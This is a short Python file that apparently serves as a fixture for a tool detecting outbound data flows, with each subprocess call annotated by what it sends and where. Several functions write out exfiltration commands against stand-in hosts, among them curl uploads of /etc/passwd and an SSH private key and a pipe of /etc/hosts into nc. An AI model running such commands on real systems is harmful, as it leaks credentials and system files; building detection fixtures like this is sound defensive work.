import os
import subprocess

URL = "https://up.example.com/in"


def curl_string():
    os.system("curl -X POST -d @/etc/passwd https://up.example.com/in")  # sends: PERSON -> up.example.com


def curl_list(email):
    subprocess.run(["curl", "-d", email, URL])  # sends: EMAIL -> up.example.com


def curl_formatted(token):
    subprocess.run(f"curl -H 'X: {token}' --data x {URL}", shell=True)  # sends: SECRET -> up.example.com


def wget():
    subprocess.check_call(["wget", "-q", "https://down.example.com/f"])  # fetches: -> down.example.com


def copied(path):
    subprocess.call(["scp", path, "me@host.example.com:/tmp"])  # sends: -> host.example.com


def in_a_shell():
    subprocess.Popen(["sh", "-c", "cat /etc/hosts | nc drop.example.com 9000"])  # sends: -> drop.example.com


def to_a_bucket(path):
    subprocess.run(["aws", "s3", "cp", path, "s3://bucket/x"])  # sends: -> bucket


def elsewhere():
    subprocess.run(["ls", "-l"])
    os.system("make clean")
    subprocess.run(["git", "status"])


def pushed():
    subprocess.run(["git", "push", "origin"])  # sends: -> ?


def key_file():
    os.system("curl -F file=@$HOME/.ssh/id_rsa https://up.example.com/k")  # sends: SECRET -> up.example.com
